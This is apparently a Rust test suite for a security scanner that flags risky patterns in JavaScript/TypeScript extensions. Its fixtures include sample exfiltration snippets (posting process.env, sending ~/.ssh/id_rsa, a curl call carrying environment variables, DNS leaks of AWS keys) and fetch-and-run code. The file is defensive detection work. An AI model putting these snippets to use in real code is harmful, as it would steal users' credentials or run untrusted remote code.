//! The compatibility scanner through its public API: every rule, the parser
//! edge cases that could hide or fake a pattern (regex/division, contextual
//! keywords, TypeScript generics), alias resolution, dynamic access, behaviour
//! chains, package scanning, report shape, and robustness
//! (`compatibility_scanner_never_panics_on_*`).

use seclab_engine::scanner::{scan_paths, scan_source, MAX_FILE_BYTES};
use seclab_engine::{Capability, RuleId, Severity, Verdict};

/// (rule, line, column) of every finding.
/// Sources are scanned as TypeScript (a superset of the JavaScript used here,
/// so type-only syntax in the cases parses).
fn findings(src: &str) -> Vec<(RuleId, u32, u32)> {
    scan_source("t.ts", src.as_bytes())
        .findings
        .iter()
        .map(|f| (f.rule, f.line, f.column))
        .collect()
}

fn rules(src: &str) -> Vec<RuleId> {
    findings(src).into_iter().map(|f| f.0).collect()
}

fn assert_only(src: &str, rule: RuleId) {
    assert_eq!(rules(src), vec![rule], "source: {src}");
}

fn assert_clean(src: &str) {
    let r = scan_source("t.ts", src.as_bytes());
    assert!(r.findings.is_empty(), "source: {src}\nfindings: {:?}", r.findings);
    assert_eq!(r.verdict, Verdict::Clean);
}

// ---- eval-call --------------------------------------------------------------

#[test]
fn compatibility_scanner_eval_direct_spaced_and_commented() {
    assert_eq!(findings("eval(x)"), vec![(RuleId::EvalCall, 1, 1)]);
    assert_eq!(findings("a;\n  eval (x)"), vec![(RuleId::EvalCall, 2, 3)]);
    assert_only("eval /*x*/ (x)", RuleId::EvalCall);
    assert_only("eval // c\n(x)", RuleId::EvalCall);
    assert_only("eval\n\n(x)", RuleId::EvalCall);
}

#[test]
fn compatibility_scanner_eval_indirect_and_via_globals() {
    for src in [
        "(0, eval)(x)",
        "globalThis.eval(x)",
        "window.eval(x)",
        "self.eval(x)",
        "global.eval(x)",
        "self['eval'](x)",
        "window[\"ev\" + 'al'](x)",
        "globalThis[`eval`](x)",
        "globalThis?.eval(x)",
        "const e = eval",
        "eval.call(null, x)",
        "[eval][0](x)",
        "ev\\u0061l(x)",
        "const { eval: e } = globalThis",
        "const g = globalThis; g.eval(x)",
        "(function (g) { g.eval(x) })(globalThis)",
    ] {
        assert_only(src, RuleId::EvalCall);
    }
}

#[test]
fn compatibility_scanner_eval_lookalikes_do_not_trigger() {
    for src in [
        "obj.eval(x)",
        "this.eval(x)",
        "a.b.eval(x)",
        "class A { eval() { return 1 } }",
        "class A { static eval(x) {} async eval2() {} }",
        "const o = { eval: 1 }",
        "const o = { eval(x) { return x } }",
        "const o = { a: 1, eval: 2 }",
        "interface I { eval: boolean }",
        "type T = { eval?: string; other: number }",
        "function evaluate() {} const retrieval = 1; medieval()",
        "const s = 'eval(x)'; const d = \"eval(x)\"",
        "// eval(x)\n/* eval(x) */",
        "const r = /eval\\(x\\)/",
        "const t = `eval(x)`",
        "function eval_() {}",
    ] {
        assert_clean(src);
    }
}

// ---- function-constructor ---------------------------------------------------

#[test]
fn compatibility_scanner_function_constructor() {
    for src in [
        "new Function('a', 'return a')",
        "Function('return this')()",
        "new globalThis.Function('x')",
        "window['Function']('x')",
        "const F = Function",
        "Reflect.construct(Function, ['x'])",
        "Function.apply(null, ['x'])",
        "(() => {}).constructor('return this')()",
    ] {
        assert_only(src, RuleId::FunctionConstructor);
    }
    for src in [
        "x instanceof Function",
        "let f: Function",
        "type F = Function",
        "Function.prototype.call",
        "const s = 'new Function(x)'",
        "function f() {}",
        "this.constructor.name",
    ] {
        assert_clean(src);
    }
}

// ---- process.binding / process.dlopen ---------------------------------------

#[test]
fn compatibility_scanner_process_binding_and_dlopen() {
    assert_only("process.binding('fs')", RuleId::ProcessBinding);
    assert_only("process . dlopen (m, f)", RuleId::ProcessDlopen);
    assert_eq!(
        findings("process\n  .\n  binding('x')"),
        vec![(RuleId::ProcessBinding, 3, 3)]
    );
    assert_only("process['binding']('x')", RuleId::ProcessBinding);
    assert_only("process._linkedBinding('x')", RuleId::ProcessBinding);
    assert_only("globalThis.process.dlopen(m, f)", RuleId::ProcessDlopen);
    assert_only("const { dlopen } = process", RuleId::ProcessDlopen);
    assert_only("const p = process; p.binding('x')", RuleId::ProcessBinding);
    assert_clean("const o = { binding: 1, dlopen: 2 }; o.binding(); x.process.binding()");
    assert_clean("// process.binding('fs')\nconst s = 'process.dlopen'");
}

// ---- forbidden builtins -----------------------------------------------------

#[test]
fn compatibility_scanner_every_forbidden_builtin_every_form() {
    for m in seclab_engine::scanner::FORBIDDEN_BUILTINS {
        for src in [
            format!("require('{m}')"),
            format!("require(\"node:{m}\")"),
            format!("require(`{m}`)"),
            format!("import x from '{m}'"),
            format!("import * as x from 'node:{m}'"),
            format!("import {{ a, b as c }} from \"{m}\""),
            format!("import '{m}'"),
            format!("await import('{m}')"),
            format!("export * from 'node:{m}'"),
            format!("export {{ a }} from '{m}'"),
        ] {
            assert_only(&src, RuleId::ForbiddenBuiltin);
        }
    }
}

#[test]
fn compatibility_scanner_builtin_lookalikes_do_not_trigger() {
    for src in [
        "require('./net')",
        "require('../vm')",
        "require('/abs/tls')",
        "require('netmask')",
        "require('vm-browserify')",
        "require('tls-helper')",
        "import x from './net'",
        "import type { Socket } from 'net'",
        "export type { Socket } from 'net'",
        "const s = \"require('vm')\"",
        "import x from 'node:path'",
        "require('NET')",
    ] {
        assert_clean(src);
    }
}

#[test]
fn compatibility_scanner_obfuscated_specifiers() {
    assert_only("require('v' + 'm')", RuleId::ForbiddenBuiltin);
    assert_only("require(`node:${'vm'}`)", RuleId::ForbiddenBuiltin);
    assert_only("require('\\x76\\x6d')", RuleId::ForbiddenBuiltin);
    assert_only("require('\\u006e\\u0065\\u0074')", RuleId::ForbiddenBuiltin);
    assert_only("module.require('vm')", RuleId::ForbiddenBuiltin);
    assert_only(
        "import { createRequire } from 'module'; createRequire(import.meta.url)('vm')",
        RuleId::ForbiddenBuiltin,
    );
    assert_only("process.getBuiltinModule('node:vm')", RuleId::ForbiddenBuiltin);
    assert_only("import vm = require('vm')", RuleId::ForbiddenBuiltin);
    // An alias of require is followed to its call (no separate escape finding).
    assert_eq!(rules("const r = require; r('vm')"), vec![RuleId::ForbiddenBuiltin]);
    assert_only("foo(require)", RuleId::DynamicRequire);
}

// ---- flagged rules and capabilities ----------------------------------------

#[test]
fn compatibility_scanner_flagged_rules_and_capabilities() {
    let cases = [
        ("require('child_process')", RuleId::ChildProcess, Capability::Exec),
        (
            "import { exec } from 'node:child_process'",
            RuleId::ChildProcess,
            Capability::Exec,
        ),
        ("process.env.HOME", RuleId::ProcessEnv, Capability::Env),
        ("process['env']", RuleId::ProcessEnv, Capability::Env),
        ("import os from 'os'", RuleId::OsModule, Capability::Env),
        ("require('http')", RuleId::NetworkBuiltin, Capability::Http),
        ("import h from 'node:https'", RuleId::NetworkBuiltin, Capability::Http),
        ("import h2 from 'http2'", RuleId::NetworkBuiltin, Capability::Http),
        (
            "import { lookup } from 'dns/promises'",
            RuleId::NetworkBuiltin,
            Capability::Http,
        ),
    ];
    for (src, rule, cap) in cases {
        let r = scan_source("t.js", src.as_bytes());
        assert_eq!(
            r.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
            vec![rule],
            "{src}"
        );
        assert_eq!(r.findings[0].severity, Severity::Flagged);
        assert_eq!(r.verdict, Verdict::Flagged);
        assert!(r.inferred_capabilities.contains(cap), "{src}");
    }
    assert_only("require(name)", RuleId::DynamicRequire);
    assert_only("require('./x/' + name)", RuleId::DynamicRequire);
    assert_only("import(url)", RuleId::DynamicImport);
    assert_only("import(`./themes/${n}.js`)", RuleId::DynamicImport);
    assert_clean("typeof require === 'function' && require.resolve('x'); import('./static.js')");
    assert_clean("(function (module, exports, require) { })");
}

#[test]
fn compatibility_scanner_capability_inference() {
    let src = "import fs from 'node:fs/promises';\n\
               module.exports = (pi) => { pi.tool('read'); pi.tool('bash'); pi.tool('custom');\n\
               pi.exec('ls'); pi.http({}); pi.log('x'); pi.session.get('k'); pi.ui.notify('x'); };";
    let r = scan_source("t.js", src.as_bytes());
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    let caps: Vec<_> = r.inferred_capabilities.iter().collect();
    assert_eq!(
        caps,
        vec![
            Capability::Read,
            Capability::Write,
            Capability::Http,
            Capability::Session,
            Capability::Ui,
            Capability::Exec,
            Capability::Tool,
            Capability::Log
        ]
    );
    let r = scan_source(
        "t.js",
        b"import p from 'path'; import u from 'node:url'; pi.tool('grep')",
    );
    assert_eq!(
        r.inferred_capabilities.iter().collect::<Vec<_>>(),
        vec![Capability::Read]
    );
}

// ---- parser: what a token guesser gets wrong ------------------------------

#[test]
fn compatibility_scanner_strings_templates_regex_comments() {
    assert_only(r#"const s = 'it\'s \' eval(' ; eval(x)"#, RuleId::EvalCall);
    assert_only(r#"const s = "a \" eval(\" b"; eval(x)"#, RuleId::EvalCall);
    assert_only("`eval(x) ${ {a: '}'}.a } ${eval(y)}`", RuleId::EvalCall);
    assert_clean("`${`${`eval(x)`}`}`");
    assert_clean("const r = /[/]eval(x)/g; const q = /\\/eval(/");
    assert_only("const z = a / b / eval(c)", RuleId::EvalCall);
    assert_only("if (ok) /eval/.test(s) && eval(s)", RuleId::EvalCall);
    assert_only("x = {} / eval(y) / 1", RuleId::EvalCall);
    assert_clean("/* eval(x)\n require('vm') */ // process.binding('fs')");
    assert_eq!(
        findings("#!/usr/bin/env node eval(x)\neval(y)"),
        vec![(RuleId::EvalCall, 2, 1)]
    );
}

#[test]
fn compatibility_scanner_lexer_desync_cases_of_issue_13_are_caught() {
    // A function expression divided by a call.
    assert_only("const r = function () {} / eval(code) / 1", RuleId::EvalCall);
    // Contextual keywords as variables before `/` (sloppy script).
    let r = scan_source(
        "t.cjs",
        b"var of = 1, async = 2; x = async / eval(y) / of; z = of / require('vm') / 1",
    );
    let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
    assert_eq!(got, vec![RuleId::EvalCall, RuleId::ForbiddenBuiltin]);
    // A TypeScript generic return type before a function body.
    let ts = "function f<T>(x: T): Map<string, Array<T>> { return eval(x) }\nconst g = async <T,>(a: T): Promise<T> => { await import('node:child_process'); return a }";
    let r = scan_source("t.ts", ts.as_bytes());
    let got: Vec<_> = r.findings.iter().map(|f| f.rule).collect();
    assert_eq!(got, vec![RuleId::EvalCall, RuleId::ChildProcess], "{:?}", r.findings);
    // JSX and TSX parse as such.
    let r = scan_source(
        "c.tsx",
        b"export const C = <T,>(p: T) => <div onClick={() => eval(p)}>{'eval(x)'}</div>;",
    );
    assert_eq!(
        r.findings.iter().map(|f| f.rule).collect::<Vec<_>>(),
        vec![RuleId::EvalCall]
    );
}

#[test]
fn compatibility_scanner_positions_count_characters_and_js_line_ends() {
    assert_eq!(findings("'é'; eval(x)"), vec![(RuleId::EvalCall, 1, 6)]);
    assert_eq!(findings("a\rb\r\nc\u{2028}eval(x)"), vec![(RuleId::EvalCall, 4, 1)]);
}

#[test]
fn compatibility_scanner_files_that_do_not_parse_fail_closed() {
    for src in [
        "'abc",
        "\"abc\neval(x)",
        "`abc ${ x",
        "/* never closed",
        "x = /unterminated\neval(y)",
        "const x = {;",
    ] {
        let r = scan_source("t.js", src.as_bytes());
        assert!(r.error.is_none());
        assert_eq!(r.verdict, Verdict::Forbidden, "{src}");
        assert!(r.findings.iter().any(|f| f.rule == RuleId::ParseError), "{src}");
        assert!(!r.diagnostics.is_empty(), "{src}");
    }
    // TypeScript syntax in a .js file does not parse: fail closed, not skipped.
    assert_eq!(scan_source("t.js", b"let x: number = 1").verdict, Verdict::Forbidden);
    assert_eq!(scan_source("t.ts", b"let x: number = 1").verdict, Verdict::Clean);
}

// ---- alias resolution, dynamic access, behaviour chains ---------------------

#[test]
fn compatibility_scanner_aliases_are_followed_through_bindings() {
    assert_only("function run(g) { g.eval(x) } run(globalThis)", RuleId::EvalCall);
    assert_only(
        "run(self); function run(g) { const { Function: F } = g; }",
        RuleId::FunctionConstructor,
    );
    assert_only(
        "(({ process: p }) => p.binding('fs'))(globalThis)",
        RuleId::ProcessBinding,
    );
    assert_only("let p; p = globalThis.process; p.dlopen(m, f)", RuleId::ProcessDlopen);
    assert_only("const k = 'ev' + 'al'; globalThis[k](x)", RuleId::EvalCall);
    assert_only(
        "const { createRequire } = require('module'); createRequire(__filename)('vm')",
        RuleId::ForbiddenBuiltin,
    );
    assert_only(
        "import { createRequire as cr } from 'node:module'; const r = cr(import.meta.url); r('worker_threads')",
        RuleId::ForbiddenBuiltin,
    );
    // Shadowing: a local named eval or process is not the global.
    assert_clean("function f(eval, process) { eval(x); process.binding('y') }");
    assert_clean("const globalThis = {}; globalThis.eval(x)");
}

#[test]
fn compatibility_scanner_dynamic_access_on_powerful_objects() {
    for src in [
        "globalThis[name](x)",
        "const g = window; g[k]",
        "process[k]('x')",
        "require[k]",
        "module[k]",
        "Reflect.get(globalThis, k)",
        "const { [k]: v } = process",
    ] {
        assert_only(src, RuleId::DynamicAccess);
    }
    // Ordinary objects and the environment's variables are not powerful.
    assert_clean("obj[k]; arr[i + 1]; map[key] = 1");
    assert_only("process.env[name]", RuleId::ProcessEnv);
}

/// Issue 13 (SLO-02): property reads on objects and arrays built from literals
/// follow the members' values — nested literals, spread copies, members
/// assigned later, `Object.assign`, array indexing, destructuring and
/// element-returning methods — and a non-constant computed read of such an
/// object holding a powerful value is dynamic access.
#[test]
fn compatibility_scanner_members_of_literals_are_followed() {
    for (src, rule) in [
        ("const o = {g: globalThis}; o.g.eval(x)", RuleId::EvalCall),
        ("const o = {p: process}; o.p.binding('x')", RuleId::ProcessBinding),
        (
            "const o = {a: [{p: process}]}; o.a[0].p.dlopen(m, f)",
            RuleId::ProcessDlopen,
        ),
        (
            "const o = {...{g: globalThis}}; o.g.Function('x')",
            RuleId::FunctionConstructor,
        ),
        ("const o = {}; o['g'] = globalThis; o.g.eval(x)", RuleId::EvalCall),
        (
            "const o = {}; Object.assign(o, {m: module}); o.m.require('vm')",
            RuleId::ForbiddenBuiltin,
        ),
        ("const [, g] = [1, globalThis]; g.eval(x)", RuleId::EvalCall),
        ("[0, process].at(-1).binding('x')", RuleId::ProcessBinding),
        ("const t = {g: globalThis}; t[k]", RuleId::DynamicAccess),
        ("const t = {a: {m: module}}; Reflect.get(t.a, k)", RuleId::DynamicAccess),
        ("const t = {p: process}; const { [k]: v } = t", RuleId::DynamicAccess),
        (
            "const o = {l: module.require.bind(module)}; o.l('vm')",
            RuleId::ForbiddenBuiltin,
        ),
    ] {
        assert_only(src, rule);
    }
    // Values that only pass through a literal are reported once, where obtained.
    assert_only("[eval][0](x)", RuleId::EvalCall);
    let r = rules("const o = Object.assign({}, {r: require}); o.r('child_process')");
    assert!(r.contains(&RuleId::ChildProcess), "{r:?}");
    // Tables of ordinary values read with computed keys stay clean.
    assert_clean("const t = {a: 1, b: Math, f() {}}; t[k](); const [x] = [Math]; x.eval(1)");
    assert_clean("const h = {run: () => 1}; h[name]()");
}

#[test]
fn compatibility_scanner_function_and_eval_by_any_route() {
    for src in [
        "[].map.constructor('return this')()",
        "''.constructor.constructor(code)",
        "f.constructor.constructor(code)",
    ] {
        assert_only(src, RuleId::FunctionConstructor);
    }
    assert_only(
        "Object.getPrototypeOf(async function () {}).constructor('x')",
        RuleId::FunctionConstructor,
    );
    for src in [
        "setTimeout('x()', 1)",
        "setInterval(`tick(${n})`, 5)",
        "Reflect.apply(eval, null, [c])",
        "window.setTimeout('a' + b)",
    ] {
        assert_only(src, RuleId::EvalCall);
    }
    assert_clean("setTimeout(() => tick(), 1); setInterval(fn, 5); x.constructor.name");
    assert_only("import('data:text/javascript,1')", RuleId::EvalCall);
    assert_only("import('https://cdn.example/x.mjs')", RuleId::FetchAndRun);
}

#[test]
fn compatibility_scanner_behaviour_chains() {
    let chain = |src: &str| {
        scan_source("t.js", src.as_bytes())
            .findings
            .iter()
            .any(|f| f.rule == RuleId::ExfiltrationChain)
    };
    assert!(chain(
        "const h = require('https'); h.request(o).end(JSON.stringify(process.env))"
    ));
    assert!(chain(
        "const os = require('os'); fetch('https://x', { method: 'POST', body: os.hostname() })"
    ));
    assert!(chain("const fs = require('fs'); const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch(u, { body: k })"));
    assert!(chain(
        "const { exec } = require('child_process'); exec('curl -d ' + JSON.stringify(process.env) + ' x')"
    ));
    assert!(chain(
        "const dns = require('dns'); dns.lookup(process.env.AWS_SECRET_ACCESS_KEY + '.x.example', cb)"
    ));
    assert!(chain(
        "const fs = require('fs'); const os = require('os'); fs.writeFileSync('/tmp/.h', os.userInfo().username)"
    ));
    // What honest extensions do: a named token sent to its API, the
    // environment handed to a child process, a config file read and shown.
    assert!(!chain(
        "fetch('https://api.example', { headers: { Authorization: 'Bearer ' + process.env.API_TOKEN } })"
    ));
    assert!(!chain("const { spawn } = require('child_process'); spawn('git', ['status'], { env: { ...process.env, GIT_PAGER: 'cat' } })"));
    assert!(!chain(
        "const fs = require('fs'); const c = fs.readFileSync('./config.json'); fetch(u, { body: c })"
    ));
    let run = |src: &str| {
        scan_source("t.js", src.as_bytes())
            .findings
            .iter()
            .any(|f| f.rule == RuleId::FetchAndRun)
    };
    assert!(run(
        "const cp = require('child_process'); fetch(u).then(r => r.text()).then(s => cp.execSync(s))"
    ));
    assert!(run(
        "require('https').get(u, res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })"
    ));
    assert!(run(
        "async function f() { const r = await fetch(u); const code = await r.text(); new Function(code)() }"
    ));
    assert!(!run(
        "const cp = require('child_process'); fetch(u).then(r => r.json()).then(j => console.log(j)); cp.exec('ls')"
    ));
}

// ---- report shape, ordering, per-file errors ---------------------------------

#[test]
fn compatibility_scanner_findings_are_sorted_with_snippets() {
    let r = scan_source("t.js", b"require('net'); eval(a)\nprocess.env.X; new Function('')");
    let got: Vec<_> = r.findings.iter().map(|f| (f.line, f.column, f.rule)).collect();
    assert_eq!(
        got,
        vec![
            (1, 9, RuleId::ForbiddenBuiltin),
            (1, 17, RuleId::EvalCall),
            (2, 9, RuleId::ProcessEnv),
            (2, 20, RuleId::FunctionConstructor)
        ]
    );
    assert_eq!(r.findings[1].snippet, "require('net'); eval(a)");
    assert_eq!(r.verdict, Verdict::Forbidden);
    let json = serde_json::to_value(&r.findings[0]).unwrap();
    assert_eq!(json["rule"], "forbidden-builtin");
    assert_eq!(json["severity"], "forbidden");
    assert_eq!(serde_json::to_value(Verdict::Clean).unwrap(), "clean");
}

#[test]
fn compatibility_scanner_bad_files_get_errors_or_warnings() {
    let r = scan_source("e.js", b"");
    assert_eq!((r.verdict, r.error.is_none()), (Verdict::Clean, true));
    assert!(r.diagnostics.iter().any(|d| d.message.contains("empty")));
    let r = scan_source("u.js", b"\xc3\x28 ; eval(x)");
    assert!(r.diagnostics.iter().any(|d| d.message.contains("UTF-8")));
    assert_eq!(r.verdict, Verdict::Forbidden, "invalid UTF-8 must not hide a pattern");
    // Fail closed (issue 13, SLO-02): a file too large to scan is forbidden,
    // with a parse-error finding, whatever it holds.
    let r = scan_source("big.js", &vec![b'a'; MAX_FILE_BYTES as usize]);
    assert!(r.error.as_deref().unwrap_or("").contains("too large"));
    assert_eq!(r.verdict, Verdict::Forbidden);
    assert_eq!(r.count(RuleId::ParseError), 1);
    let r = scan_source("small.js", &vec![b'a'; 1024]);
    assert_eq!(r.verdict, Verdict::Clean);
}

/// Issue 13 (fail closed): a package.json that does not parse makes the
/// package forbidden (parse-error at the JSON error's line), and the rest of
/// the package is still scanned.
#[test]
fn compatibility_scanner_broken_package_json_fails_closed() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("package.json"),
        "{\n  \"main\": \"index.js\",\n  \"scripts\": {,}\n}\n",
    )
    .unwrap();
    std::fs::write(d.join("index.js"), "module.exports = 1").unwrap();
    let reports = scan_paths(&[d.to_path_buf()]);
    let pj = reports
        .iter()
        .find(|r| r.file.ends_with("package.json"))
        .expect("package.json report");
    assert_eq!(pj.verdict, Verdict::Forbidden);
    assert_eq!(pj.findings.len(), 1);
    assert_eq!((pj.findings[0].rule, pj.findings[0].line), (RuleId::ParseError, 3));
    assert!(reports
        .iter()
        .any(|r| r.file.ends_with("index.js") && r.verdict == Verdict::Clean));
    // A package.json that parses is not a finding.
    std::fs::write(d.join("package.json"), "{\"main\": \"index.js\"}").unwrap();
    assert!(scan_paths(&[d.to_path_buf()])
        .iter()
        .all(|r| r.verdict == Verdict::Clean));
}

#[test]
fn compatibility_scanner_scan_paths_recurses_sorted_and_continues() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("sub/deeper")).unwrap();
    std::fs::write(d.join("b.js"), "eval(x)").unwrap();
    std::fs::write(d.join("a.ts"), "let x = 1").unwrap();
    std::fs::write(d.join("sub/c.mjs"), "require('vm')").unwrap();
    std::fs::write(d.join("sub/deeper/d.cjs"), b"\xff\xfe").unwrap();
    std::fs::write(d.join("sub/e.tsx"), "export const E = () => <b/>").unwrap();
    std::fs::write(d.join("sub/notes.md"), "eval(x)").unwrap();
    let reports = scan_paths(&[d.to_path_buf(), d.join("missing.js")]);
    let names: Vec<_> = reports
        .iter()
        .map(|r| r.file.trim_start_matches(&d.display().to_string()).to_string())
        .collect();
    assert_eq!(
        names,
        vec![
            "/a.ts",
            "/b.js",
            "/sub/c.mjs",
            "/sub/deeper/d.cjs",
            "/sub/e.tsx",
            "/missing.js"
        ]
    );
    assert_eq!(reports[1].verdict, Verdict::Forbidden);
    assert_eq!(reports[4].verdict, Verdict::Clean);
    assert!(reports[5].error.is_some());
}

// ---- robustness -------------------------------------------------------------

/// A small deterministic generator (no external crates needed).
struct Lcg(u64);
impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
}

#[test]
fn compatibility_scanner_never_panics_on_random_bytes() {
    let mut g = Lcg(7);
    let alphabet = b"`'\"/\\*{}()[]$#!.,;:=+-?<>\n\r evalrequireprocessbindingFunctionimport0x9\xff\xe2\x80\xa8";
    for len in [0usize, 1, 2, 3, 7, 64, 512, 4096] {
        for _ in 0..200 {
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    if g.next().is_multiple_of(4) {
                        (g.next() & 0xff) as u8
                    } else {
                        alphabet[(g.next() as usize) % alphabet.len()]
                    }
                })
                .collect();
            let r = scan_source("r.js", &bytes);
            let lines = 1 + bytes.iter().filter(|b| matches!(b, b'\n' | b'\r' | 0xa8)).count() as u32;
            assert!(r
                .findings
                .iter()
                .all(|f| f.line >= 1 && f.line <= lines && f.column >= 1));
        }
    }
}

#[test]
fn compatibility_scanner_never_panics_on_truncated_corpus_files() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/extensions/adversarial");
    let mut n = 0;
    for e in std::fs::read_dir(&dir).unwrap().flatten() {
        let p = e.path();
        if !seclab_engine::scanner::is_source_file(&p) {
            continue;
        }
        let bytes = std::fs::read(&p).unwrap();
        for cut in (0..bytes.len()).step_by(7) {
            let r = scan_source("cut.js", &bytes[..cut]);
            assert!(r.error.is_none());
            n += 1;
        }
    }
    assert!(n > 1000);
}

#[test]
fn compatibility_scanner_never_panics_on_deep_nesting_and_long_lines() {
    // Moderate nesting is analysed (on the analysis thread's stack) ...
    for (open, close) in [("(", ")"), ("[", "]"), ("{a:", "}"), ("`${", "}`")] {
        let src = format!("x = {}eval(x){}", open.repeat(1000), close.repeat(1000));
        assert!(rules(&src).contains(&RuleId::EvalCall), "{open}");
    }
    // ... and nesting beyond the guard fails closed instead of overflowing the stack.
    let depth = 200_000;
    for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), ("`${", "}`"), ("!", "")] {
        let src = format!("{}eval(x){}", open.repeat(depth), close.repeat(depth));
        let r = scan_source("d.js", src.as_bytes());
        assert_eq!(r.verdict, Verdict::Forbidden, "{open}");
        let _ = scan_source("o.js", open.repeat(depth).as_bytes());
        let _ = scan_source("c.js", close.repeat(depth).as_bytes());
    }
    let long = format!("x = {}eval(x);", "a+".repeat(1_000_000));
    let r = scan_source("l.js", long.as_bytes());
    assert_eq!(r.verdict, Verdict::Forbidden);
    assert!(r.findings.iter().all(|f| f.snippet.len() < 400));
    let wide = format!("{}eval(x);", "a = 1;\n".repeat(200_000));
    assert_eq!(rules(&wide), vec![RuleId::EvalCall]);
    let _ = scan_source("s.js", "\\u{".repeat(10_000).as_bytes());
    let _ = scan_source("q.js", "a.".repeat(100_000).as_bytes());
    let _ = scan_source("t.js", "'a'+".repeat(100_000).as_bytes());
}

/// Issue 13 (behaviour chains across the package graph): a secret exported by
/// one module and sent by another is an exfiltration-chain in the sender; one
/// named variable (an API token the extension uses for its own service) is not.
#[test]
fn compatibility_scanner_chains_cross_modules_of_a_package() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("package.json"), r#"{"main": "send.js"}"#).unwrap();
    std::fs::write(d.join("secret.js"), "module.exports.all = JSON.stringify(process.env);").unwrap();
    std::fs::write(d.join("token.js"), "module.exports.t = process.env.API_TOKEN;").unwrap();
    std::fs::write(
        d.join("send.js"),
        "const s = require('./secret'); const k = require('./token');\n\
         fetch('https://a.example', {method: 'POST', body: k.t});\n\
         fetch('https://b.example', {method: 'POST', body: s.all});\n",
    )
    .unwrap();
    let reports = scan_paths(&[d.to_path_buf()]);
    let send = reports.iter().find(|r| r.file.ends_with("send.js")).unwrap();
    let chains: Vec<u32> = send
        .findings
        .iter()
        .filter(|f| f.rule == RuleId::ExfiltrationChain)
        .map(|f| f.line)
        .collect();
    assert_eq!(chains, vec![3], "{:?}", send.findings);
    // Scanned alone, the sender has no source: the chain needs the graph.
    let alone = scan_source("send.js", &std::fs::read(d.join("send.js")).unwrap());
    assert_eq!(alone.count(RuleId::ExfiltrationChain), 0);
}
